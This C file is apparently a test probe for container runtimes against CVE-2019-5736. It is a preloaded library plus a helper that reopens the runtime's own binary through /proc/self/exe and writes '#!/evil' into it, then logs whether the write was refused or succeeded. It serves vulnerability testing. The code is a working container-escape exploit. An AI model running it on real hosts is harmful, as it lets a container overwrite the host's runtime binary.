/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What an image loads into the runtime that is made to run itself inside (LD_PRELOAD,
 * CVE-2019-5736): keeps /proc/self/exe open, and when the program has ended, and is not busy any
 * more, opens it again for writing. /overwrite.log tells how far it came: "opened", then "refused
 * ERRNO" or "WRITTEN".
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static void say(const char *word, int number)
{
	int fd = open("/overwrite.log", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);

	dprintf(fd, "%s %d\n", word, number);
	close(fd);
}

#ifdef PRELOADED
__attribute__((constructor)) static void begin(void)
{
	int exe = open("/proc/self/exe", O_RDONLY);

	if (exe < 0)
		_exit(99);
	say("opened", 0);
	unsetenv("LD_PRELOAD");
	/*
	 * A program that runs is busy: become another one, and let the runtime outside end that
	 * waits for this process. The first process of a container has nobody to go on for it;
	 * nobody waits when it is detached.
	 */
	if (getpid() != 1 && fork() != 0)
		_exit(0);
	execl("/overwrite", "overwrite", exe < 10 ? (char[]){ (char)('0' + exe), '\0' } : "x",
	      (char *)NULL);
	_exit(98);
}
#else
static void attack(int exe)
{
	const struct timespec pause = { .tv_nsec = 1000000 };
	char path[32];
	int fd = -1;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	for (int i = 0; i < 5000; i++) {
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 || errno != ETXTBSY)
			break;
		nanosleep(&pause, NULL);
	}
	if (fd >= 0 && write(fd, "#!/evil", 7) == 7)
		say("WRITTEN", 0);
	else
		say("refused", errno);
}

int main(int argc, char **argv)
{
	attack(argc > 1 ? argv[1][0] - '0' : -1);
	return 0;
}
#endif
